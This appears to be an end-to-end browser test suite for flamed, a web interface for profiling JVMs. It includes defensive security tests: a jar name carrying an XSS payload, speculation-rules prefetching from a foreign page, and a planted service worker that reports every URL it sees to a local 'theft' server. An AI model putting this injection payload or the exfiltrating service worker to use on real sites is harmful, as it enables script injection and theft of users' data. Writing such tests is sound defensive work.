// SPDX-License-Identifier: Apache-2.0
// The page of a real flamed that watches real JVMs, as a person uses it: what the stand-in of page.spec.mjs cannot show.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { after, before, describe } from "node:test";
import { WCAG_AA, addressOf, close, faults, journey, launch, open, textOf, withShown } from "./browser.mjs";
import { KINDS } from "../../web/shared/kinds.js";
import { Flamed, Workloads } from "./flamed.mjs";
import { startProxy } from "./proxy.mjs";

const HOSTILE = "\u202e<img src=x onerror=alert(1)>\u0007" + "x".repeat(100) + ".jar";
let browser, flamed, workloads, shift, startedMs;

before(async () => {
    [browser, flamed] = await Promise.all([launch(), new Flamed().start("--allowed-hosts", "flamed.example.com")]);
    workloads = new Workloads();
    shift = await workloads.run("Shift", "30");
    startedMs = Date.now();
    await workloads.run("-jar", workloads.jar(HOSTILE, "Shift"), "90");
});
after(async () => {
    await Promise.allSettled([browser && browser.close(), workloads && workloads.stop(), flamed && flamed.stop()]);
});

const visit = (hash = "", options = {}) => open(browser, flamed.url, hash, options);
const jvmHash = () => `#/jvm/${shift.pid}`;
const graphShown = (page) => page.locator(".panel .facts").filter({ hasText: "samples" }).waitFor();
const focusedText = (page) => page.evaluate(() => document.activeElement.textContent);

// Waits until the live graph has samples of @text.
async function searchLive(page, text) {
    await page.locator(".search-text").fill(text);
    await page.locator(".matches", { hasText: "matched" }).waitFor();
}

const capture = async (body) => (await (await fetch(flamed.url + "api/v1/captures", {
    method: "POST", body: JSON.stringify(body), headers: { "Content-Type": "application/json" },
})).json()).id;

async function captureForASecond(page) {
    await page.keyboard.press("x");
    await page.keyboard.type("1");
    await page.keyboard.press("Enter");
    await page.waitForURL(/#\/capture\//);
    await graphShown(page);
}

const logIn = (at) => execFileSync(process.env.FLAMED_PROGRAM, ["--login", "--listen", `127.0.0.1:${at.port}`, "--listen",
    `unix:${at.folder}/sock`], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim();

// Has a page of another site (another port) ask for @address in advance, without a Referer.
async function speculate(page, kind, address) {
    await page.evaluate(([kind, address]) => {
        const rules = document.createElement("script");

        rules.type = "speculationrules";
        rules.textContent = JSON.stringify({ [kind]: [{ source: "list", urls: [address], eagerness: "immediate", referrer_policy: "no-referrer" }] });
        document.body.append(rules);
    }, [kind, address]);
}

describe("the page of a real flamed", { concurrency: 3 }, () => {
    journey("a page of another site has nothing fetched in advance", async () => {
        const asked = [], site = createServer((request, answer) => {
            asked.push(request.url);
            answer.writeHead(200, { "Content-Type": "text/html" }).end("<body>another site</body>");
        });

        await new Promise((done) => site.listen(0, "127.0.0.1", done));
        const { port } = site.address();
        const page = await browser.newPage();
        const captures = async () => (await (await fetch(flamed.url + "api/v1/captures")).json()).captures.filter((c) => c.hz === 77);

        await page.goto(`http://other.example.com:${port}/`);
        for (const kind of ["prefetch", "prerender"]) {
            await speculate(page, kind, `${flamed.url}profile?seconds=0.1&hz=77`);
            await speculate(page, kind, `http://127.0.0.1:${port}/${kind}`); // which shows that it does
            while (!asked.includes(`/${kind}`))
                await page.waitForTimeout(50);
        }
        await page.waitForTimeout(1000);
        assert.deepEqual(await captures(), []);
        await page.close();
        site.closeAllConnections();
        site.close();
    });

    journey("what another program had left in the browser, at flamed's port, does not meet a login", async (t) => {
        const own = await new Flamed().start(), seen = [];

        t.after(() => own.stop()); // what is left open would keep this program running
        const theft = createServer((request, answer) => {
            seen.push(decodeURIComponent(request.url));
            answer.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
        });

        t.after(() => {
            theft.closeAllConnections();
            theft.close();
        });
        await own.halt();
        await new Promise((done) => theft.listen(0, "127.0.0.1", done));
        const tell = (what) => `fetch("http://127.0.0.1:${theft.address().port}/?" + encodeURIComponent(${what}), { mode: "no-cors" });`;
        const files = {
            "/": ["text/html", `<title>another program</title><script>${tell('"page"')} navigator.serviceWorker.register("/worker.js");</script>`],
            "/worker.js": ["text/javascript", `addEventListener("install", () => skipWaiting());
                addEventListener("activate", (e) => e.waitUntil(clients.claim()));
                addEventListener("fetch", (e) => { ${tell("e.request.url")} });`],
        };
        const thief = createServer((request, answer) => {
            const [type, body] = files[request.url] || ["text/plain", ""];

            answer.writeHead(200, { "Content-Type": type, "Cache-Control": "max-age=31536000" }).end(body);
        });

        await new Promise((done) => thief.listen(own.port, "127.0.0.1", done));
        t.after(() => thief.close());
        const context = await browser.newContext();
        const victim = await context.newPage();

        await victim.goto(`http://localhost:${own.port}/`);
        await victim.waitForFunction(() => navigator.serviceWorker.controller);
        await victim.close();
        thief.closeAllConnections();
        await new Promise((done) => thief.close(done));
        await own.run();
        const before = await context.newPage();

        await before.goto(`http://localhost:${own.port}/`); // which shows that it lasts
        assert.equal(await before.title(), "another program");
        await before.close();
        seen.length = 0;
        const page = await context.newPage();

        await page.goto(logIn(own));
        await page.getByText("root · sees everything").waitFor();
        assert.match(await page.title(), new RegExp(`flamed localhost:${own.port}$`));
        assert.deepEqual(seen, []);
        await page.close();
        for (const visit of ["the first one", "the next one"]) { // without a login: the worker ends itself, and its page goes
            const again = await context.newPage();

            if (visit === "the next one")
                seen.length = 0;
            await again.goto(`http://localhost:${own.port}/`);
            await again.waitForFunction((title) => document.title.endsWith(title), `flamed localhost:${own.port}`).catch(withShown(again));
            await again.close();
        }
        assert.deepEqual(seen, []);
        await context.close();
    });

    journey("find: the JVM by its name, with its share of the CPU over time", async () => {
        const page = await visit();

        await page.getByRole("link", { name: "Shift", exact: true }).waitFor();
        await page.keyboard.press("/");
        await page.keyboard.type(`shift ${shift.pid}`);
        await page.locator(".matches", { hasText: /^1 of/ }).waitFor();
        const row = page.locator(".jvms tbody tr");

        assert.equal(await row.locator(".col-pid").textContent(), String(shift.pid));
        assert.doesNotMatch(await row.locator(".col-signals").textContent(), /no Java names/);
        await page.waitForFunction(() => { // the sparkline has colours
            const canvas = document.querySelector(".spark");

            const copy = new OffscreenCanvas(canvas.width || 1, canvas.height || 1).getContext("2d", { willReadFrequently: true });

            copy.drawImage(canvas, 0, 0);
            return copy.getImageData(0, 0, copy.canvas.width, copy.canvas.height).data.some((v) => v > 0);
        });
        await page.keyboard.press("Escape");
        const hostile = page.locator(".jvms tbody tr", { hasText: "<img src=x onerror=alert(1)>" });

        await hostile.locator(".jvm-link").click();
        await graphShown(page);
        assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
        await close(page);
    });

    journey("watch: live graph and table; zoom, search, sandwich, threads, packages", async () => {
        const page = await visit(jvmHash());

        await graphShown(page);
        await searchLive(page, "Shift.steady");
        await page.keyboard.press("Enter"); // the next match, in the line and around the frame
        assert.match(await textOf(page, ".status-name"), /Shift\.steady/);
        await page.locator(".graph").focus();
        await page.keyboard.press("Enter");
        assert.match(await addressOf(page), /z=/);
        await page.keyboard.press("Escape");
        assert.match(await textOf(page, ".methods tbody tr >> nth=0"), /Shift\.(steady|fresh)/);
        await page.keyboard.press("s");
        assert.match(await textOf(page, ".side-label >> nth=0"), /Callers of Shift\.steady: \d/);
        await page.keyboard.press("Escape");
        const worker = page.getByLabel("Threads").locator("option", { hasText: "worker-1" });

        await page.getByLabel("Threads").selectOption(await worker.getAttribute("value")); // its text changes with its share
        assert.match(await addressOf(page), /th=.*worker-1/);
        await page.keyboard.press("p");
        await page.locator(".legend", { hasText: "(no package)" }).first().waitFor();
        await page.keyboard.press("o");
        await page.locator(".live tbody tr", { hasText: "Shift.steady" }).waitFor();
        await close(page);
    });

    journey("capture: started, followed, stopped; downloaded in every format", async () => {
        const page = await visit(jvmHash(), { allow: /400/ });

        await graphShown(page);
        await page.getByRole("button", { name: "Capture …" }).click();
        await page.getByLabel("Seconds").fill("0");
        await page.keyboard.press("Enter");
        await page.getByRole("alert").filter({ hasText: "from 0.1 to 3600" }).waitFor();
        await page.getByLabel("Seconds").fill("600");
        await page.getByLabel("By thread").check();
        await page.getByRole("button", { name: "Start", exact: true }).click();
        await page.locator(".progress-text", { hasText: /of 10.min · [1-9]/ }).waitFor();
        await page.locator(".hottest li", { hasText: "Shift.steady" }).waitFor();
        await page.getByRole("button", { name: "Stop" }).click();
        await page.waitForURL(/#\/capture\/.*th=\*/);
        await graphShown(page);
        assert.match(await textOf(page, ".crumbs"), /Shift/);
        await page.getByRole("button", { name: "Download" }).click();
        await page.getByRole("menuitem").first().waitFor();
        const formats = await page.getByRole("menuitem").evaluateAll((links) => links.map(({ href }) => new URL(href).searchParams.get("format")));

        assert.ok(["html", "svg", "heatmap", "collapsed", "pprof", "jfr", "speedscope", "otlp", "json", "tree", "flat"].every((f) => formats.includes(f)), formats.join());
        const signs = { html: /^<!doctype html/i, svg: /<svg/, pprof: /^\x1f\x8b/, jfr: /^FLR\0/, json: /^\{/, speedscope: /^\{/, collapsed: /Shift\.steady.* \d+$/m };

        for (const format of formats) {
            if (!await page.getByRole("menu").isVisible())
                await page.getByRole("button", { name: "Download" }).click();
            const [download] = await Promise.all([page.waitForEvent("download"), page.locator(`.menu a[href$="format=${format}"]`).click()]);
            const text = readFileSync(await download.path(), "latin1");

            assert.ok(text.length > 100, format);
            assert.match(text, signs[format] || /./, format);
            assert.match(download.suggestedFilename(), /^flamed-.*\.\w/, format);
        }
        await close(page);
    });

    journey("two events: captured at once, shown one after the other", async () => {
        const page = await visit(jvmHash());

        await graphShown(page);
        await page.getByRole("button", { name: "Capture …" }).click();
        await page.getByLabel("Together with").locator("option[value=context-switches]").waitFor({ state: "attached" });
        await page.getByLabel("Together with").selectOption("context-switches");
        await page.getByLabel("Seconds").fill("2");
        await page.getByRole("button", { name: "Start", exact: true }).click();
        await page.waitForURL(/#\/capture\//);
        await graphShown(page);
        assert.match(await textOf(page, ".jvm-facts"), /CPU, context-switches/);
        const shown = page.getByRole("combobox", { name: "Event", exact: true });

        assert.deepEqual(await shown.locator("option").allTextContents(), ["CPU", "context-switches"]);
        await shown.selectOption("context-switches");
        await page.waitForURL(/event=context-switches/);
        await page.reload();
        await graphShown(page);
        assert.equal(await shown.inputValue(), "context-switches");
        await page.getByRole("button", { name: "Download" }).click();
        assert.match(await page.locator(".menu a[href$='format=html']").getAttribute("href").catch(() => "") ||
            await page.getByRole("menuitem").first().getAttribute("href"), /event=context-switches/);
        await close(page);
    });

    journey("locks: what threads waited for, how long, and who had it", async () => {
        const { events } = await flamed.get("api/v1/events");

        if (!events.find(({ name }) => name === "lock").available)
            return; // an older kernel
        const locks = await workloads.run("Locks");
        let id = null;

        while (!(id = await capture({ pid: locks.pid, seconds: 1, event: "lock", threads: 1 }))) // its program is being loaded
            await new Promise((done) => setTimeout(done, 500));
        const page = await visit("#/capture/" + id);

        await graphShown(page);
        await page.getByRole("button", { name: "Locks", exact: true }).click();
        await page.waitForURL(/locks=1/);
        await page.reload();
        const row = page.locator(".locks tbody tr").filter({ hasText: "Locks$LockA" });

        await row.waitFor();
        assert.deepEqual((await row.locator("td").allTextContents()).slice(0, 2), ["Locks$LockA", "synchronized"]);
        assert.match(await row.locator("td").last().innerText(), /LockA-\d .*%/);
        assert.deepEqual(await faults(page, WCAG_AA), []);
        if (process.env.FLAMED_SCREENSHOT)
            await page.screenshot({ path: process.env.FLAMED_SCREENSHOT });
        await row.getByRole("button").click(); // its waiters' stacks
        await graphShown(page);
        assert.match(await page.locator(".matches").innerText(), /matched/);
        assert.match(page.url(), /LockA/);
        await close(page);
    });

    journey("a leak: the map of a service that grows, found by its class; two captures beside each other; as a table", async () => {
        const service = await workloads.run("-Xmx512m", "-XX:+UseSerialGC", "Keeps");
        const serve = (seconds) => service.stdin.write("serve 1\ncollect\n".repeat(seconds)); // it collects however late a capture begins

        while (!await capture({ pid: service.pid, seconds: 0.1, event: "live" })) // its program is being loaded
            await new Promise((done) => setTimeout(done, 500));
        const page = await visit(`#/jvm/${service.pid}`, { allow: /404 .*\/profile\?/ }); // it is idle: nothing may be known of it
        const ids = [];

        for (const seconds of [4, 6]) {
            await page.goto(flamed.url + `#/jvm/${service.pid}`);
            await page.getByRole("button", { name: "Capture …" }).click();
            await page.getByRole("radio", { name: /is it a leak/ }).check();
            await page.getByLabel("Seconds").fill(String(seconds));
            serve(seconds + 4);
            await page.getByRole("button", { name: "Start", exact: true }).click();
            await page.waitForURL(/#\/capture\//);
            await graphShown(page);
            ids.push(new URL(page.url()).hash.match(/capture\/([^?]+)/)[1]);
        }
        await searchLive(page, "Sessions.open");
        const share = Number((await textOf(page, ".matches")).match(/([\d.]+)\s*%/)[1]);

        assert.ok(share > 60, `${share} %`);
        await page.keyboard.press("Enter");
        assert.match(await textOf(page, ".status-name"), /Keeps\$Sessions\.open/);
        await page.goto(flamed.url + `#/compare?a=${ids[0]}&b=${ids[1]}`);
        await page.locator(".change-list", { hasText: /Before: .* live, \d+ samples.*After: .* live, \d+ samples/ }).waitFor();
        await page.getByRole("button", { name: "Side by side" }).click();
        assert.equal(await page.locator(".graph").count(), 2);
        await close(page);
        serve(3);
        const table = await (await fetch(flamed.url + `top?pid=${service.pid}&event=live&once=1&interval=2s`)).text();

        assert.match(table, /byte\[\]/);
    });

    journey("range and compare: what is new, in words, in one graph and side by side", async () => {
        const oldMs = 10000, newMs = 8000; // of the one and the other, for ranges of some seconds

        await new Promise((done) => setTimeout(done, startedMs + oldMs - Date.now()));
        shift.stdin.write("\n");
        await new Promise((done) => setTimeout(done, newMs));
        const page = await visit(jvmHash());
        // Until its timeline shows a minute: by what it shows a drag is a range, and ranges to compare with are known.
        const minuteShown = async (act) => {
            const answered = page.waitForResponse((response) => response.url().includes("api/v1/timeline?") && response.url().includes("from=-60s"));

            await act();
            await (await answered).finished();
            await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
        };

        await searchLive(page, "Shift.fresh");
        await minuteShown(() => page.getByLabel("How much the timeline shows").selectOption("60"));
        const box = await page.locator(".timeline-plot").boundingBox();

        await page.mouse.move(box.x + box.width - 120, box.y + 40);
        await page.mouse.down();
        await page.mouse.move(box.x + box.width - 20, box.y + 40, { steps: 3 });
        await page.mouse.up();
        await page.waitForURL(/from=.*to=/);
        await graphShown(page);
        await page.getByRole("button", { name: "Heat map" }).click();
        await page.locator(".heat-status", { hasText: "Drag over a range" }).waitFor();
        const heat = await page.locator(".heat-canvas").boundingBox();

        await page.mouse.move(heat.x + 2, heat.y + heat.height - 2);
        await page.mouse.down();
        await page.mouse.move(heat.x + heat.width * 0.4, heat.y + 2, { steps: 3 });
        await page.mouse.up();
        await page.waitForURL(/heat=\d+-\d+/);
        assert.match(await textOf(page, ".heat-status"), /^Selected: .* [1-9]\d* samples?\b/);
        await minuteShown(() => page.reload());
        await page.locator(".heat-status", { hasText: "Selected" }).waitFor();
        await page.keyboard.press("e");
        assert.equal(await page.locator(".heat-canvas").count(), 0);
        await page.getByRole("button", { name: "Compare …" }).click();
        await page.getByRole("menuitem", { name: /oldest/ }).click();
        await page.locator(".change-list li", { hasText: /Shift\.fresh.*new/ }).waitFor();
        await page.getByRole("button", { name: "Side by side" }).click();
        assert.equal(await page.locator(".graph").count(), 2);
        await page.locator(".change-list .name", { hasText: "Shift.fresh" }).click();
        assert.match((await textOf(page, ".status-facts")), /^(0(\.0)? %, 0 (n?s)|–) before/);
        await close(page);
    });

    journey("by keyboard alone: from the node to a stored capture", async () => {
        const page = await visit();

        await page.getByRole("link", { name: "Shift", exact: true }).waitFor();
        await page.keyboard.press("/");
        await page.keyboard.type(String(shift.pid));
        await page.locator(".matches", { hasText: /^1 of/ }).waitFor();
        await page.keyboard.press("Enter");
        await graphShown(page);
        await captureForASecond(page);
        await page.keyboard.press("ArrowUp");
        await page.keyboard.press("ArrowUp");
        await page.keyboard.press("m");
        assert.match(await focusedText(page), /Zoom into/);
        await page.keyboard.press("Escape");
        await page.keyboard.press("?");
        assert.ok(await page.getByRole("dialog").isVisible());
        await page.keyboard.press("Escape");
        await page.keyboard.press("2");
        await page.locator(".captures .jvm-link").first().focus();
        await page.keyboard.press("Enter");
        await page.waitForURL(/#\/capture\//);
        await close(page);
    });

    journey("page, html and flat say the same of the waits of one capture: kinds, shares, samples and sum", async () => {
        const locks = await workloads.run("Locks");
        const id = await capture({ pid: locks.pid, event: "offcpu", seconds: 2 }), address = flamed.url + `api/v1/captures/${id}/profile`;

        while ((await flamed.get(`api/v1/captures/${id}`)).state !== "done")
            await new Promise((done) => setTimeout(done, 300));
        const flat = await (await fetch(address + "?format=flat&idle=0")).text();
        const rows = [...flat.matchAll(/^ +(\d+) +[\d.]+% +(\d+) +\[(\w+)\]/gm)].map(([, ns, samples, kind]) => ({ ns: Number(ns), samples: Number(samples), kind }));
        const whole = rows.reduce((sum, { ns }) => sum + ns, 0), samples = rows.reduce((sum, one) => sum + one.samples, 0), shares = {};

        assert.ok(rows.some(({ kind }) => kind === "lock") && samples === Number(/^Total samples +: (\d+)$/m.exec(flat)[1]), flat);
        for (const { ns, kind } of rows) {
            const { label } = KINDS.find(({ id: one }) => one === kind);

            shares[label] = (shares[label] || 0) + 100 * ns / whole;
        }
        for (const shown of [`${flamed.url}#/capture/${id}`, `${address}?format=html&idle=0`]) {
            const page = await visit();

            await page.goto(shown);
            await page.locator(".status-facts", { hasText: "100.0" }).waitFor();
            const legend = [...(await textOf(page, ".legend")).matchAll(/([A-Z][\w., ]*?)\s(<?[\d.]+)\s%/g)].map(([, name, share]) => [name, share === "<0.1" ? 0.05 : Number(share)]);
            const [, count, seconds] = /· ([\d,]+)\ssamples · ([\d.]+)\ss ·/.exec(await textOf(page, ".status-facts"));

            assert.deepEqual(legend.map(([name]) => name).sort(), Object.keys(shares).sort(), shown);
            for (const [name, share] of legend)
                assert.ok(Math.abs(share - shares[name]) <= 0.051, `${shown}: ${name} ${share}, of flat ${shares[name]}`);
            assert.equal(Number(count.replace(",", "")), samples);
            assert.ok(Math.abs(Number(seconds) - whole / 1e9) <= whole / 1e9 / 100, `${seconds} s, of flat ${whole}`);
            await close(page);
        }
    });

    journey("every view, light, dark and on a phone: axe finds nothing, nothing is cut off", async () => {
        const id = await capture({ pid: shift.pid, seconds: 1 });

        await new Promise((done) => setTimeout(done, 1500));
        const views = { node: ["", ".jvm-link"], jvm: [jvmHash(), ".panel .facts span"], top: [jvmHash() + "?tab=top", ".live tbody tr:visible"],
            heat: [`#/capture/${id}?heat=1`, ".heat-status"], table: [jvmHash() + "?t=1&th=*", ".methods td"], captures: ["#/captures", ".captures td"], capture: [`#/capture/${id}`, ".panel .facts span"],
            compare: [`#/compare?a=${id}&b=${shift.pid},-5s,&sd=1`, ".change-list"], health: ["#/health", ".card dd"] };

        const looks = [["light", 1200], ["dark", 1200], ["light", 390]];

        await Promise.all(looks.map(async ([theme, width]) => {
            const page = await visit("", { colorScheme: theme, viewport: { width, height: 800 } });

            // Each view in one of the looks: looks.spec.mjs has them in all, with made-up data; only the heat map is new.
            for (const [i, [name, [hash, sign]]] of Object.entries(views).entries()) {
                if (!process.env.FLAMED_SHOTS && name !== "heat" && looks[i % looks.length][0] + looks[i % looks.length][1] !== theme + width)
                    continue;
                await page.evaluate((to) => { location.hash = to; }, hash || "#/");
                await page.locator(sign).first().waitFor();
                await page.waitForTimeout(name === "health" ? 1000 : 200);
                if (process.env.FLAMED_SHOTS)
                    await page.screenshot({ path: `${process.env.FLAMED_SHOTS}/real-${name}-${theme}-${width}.png` });
                assert.deepEqual(await faults(page, WCAG_AA), [], `${name} ${theme} ${width}`);
                assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${name} ${width} is too wide`);
            }
            await close(page);
        }));
    });

    journey("log in: an address of flamed --login, once; a capture by the cookie; and out", async () => {
        const address = logIn(flamed);
        const page = await open(browser, address, jvmHash());

        await page.getByText("root · sees everything").waitFor();
        assert.equal(new URL(page.url()).pathname, "/");
        assert.deepEqual((await page.context().cookies()).map(({ httpOnly, sameSite, secure }) => ({ httpOnly, sameSite, secure })),
            [{ httpOnly: true, sameSite: "Strict", secure: false }]);
        await graphShown(page);
        await captureForASecond(page);
        await page.getByRole("button", { name: "Log out" }).click();
        await page.getByRole("button", { name: "Log out" }).waitFor({ state: "hidden" });
        assert.deepEqual(await page.context().cookies(), []);
        await close(page);
        const again = await open(browser, address, "", { allow: /403/ });

        await again.getByRole("heading", { name: "Access refused" }).waitFor();
        await again.getByText("this address was used already, or is too old").waitFor();
        await close(again);
    });

    journey("behind a reverse proxy with a path prefix; without its Host nothing begins there; other names are refused", async () => {
        for (const keepsHost of [true, false]) {
            const proxy = await startProxy(flamed.url, { prefix: "/tools/flamed", keepsHost });

            try {
                const page = await open(browser, `http://flamed.example.com:${proxy.port}/tools/flamed/`, jvmHash(), { allow: /403/ });

                await graphShown(page);
                if (keepsHost) {
                    await captureForASecond(page);
                } else { // it cannot be told from a page of another port of that name
                    await page.keyboard.press("x");
                    await page.keyboard.press("Enter");
                    await page.getByRole("alert").filter({ hasText: "let it pass on Host with the port" }).waitFor();
                }
                await close(page);
                if (!keepsHost) {
                    const other = await open(browser, `http://other.example.com:${proxy.port}/tools/flamed/`, jvmHash(), { allow: /403/ });

                    await graphShown(other);
                    await other.keyboard.press("x");
                    await other.keyboard.press("Enter");
                    await other.getByRole("alert").filter({ hasText: "put the name of the address bar into allowed_hosts" }).waitFor();
                    await close(other);
                }
            } finally { // else the process would not end
                await proxy.close();
            }
        }
    });
});

journey("flamed started anew while open, and a JVM that dies while watched", async () => {
    const page = await visit(jvmHash(), { allow: /404|Failed to load|ERR_/ });

    await graphShown(page);
    await flamed.halt();
    await page.locator(".banner", { hasText: "flamed does not answer" }).waitFor();
    await flamed.run();
    await page.locator(".banner").waitFor({ state: "hidden" });
    await graphShown(page);
    shift.kill("SIGKILL");
    await page.locator(".banner, .jvm-facts", { hasText: /^(This JVM has ended|(Ended|Last seen) \d)/ }).waitFor(); // the second: the history has it
    assert.ok(await page.locator(".panel").isVisible());
    await page.keyboard.press("1");
    await page.locator(".jvms .jvm-link").first().waitFor();
    assert.equal(await page.locator("table.jvms").getByRole("link", { name: "Shift", exact: true }).count(), 0);
    await close(page);
});
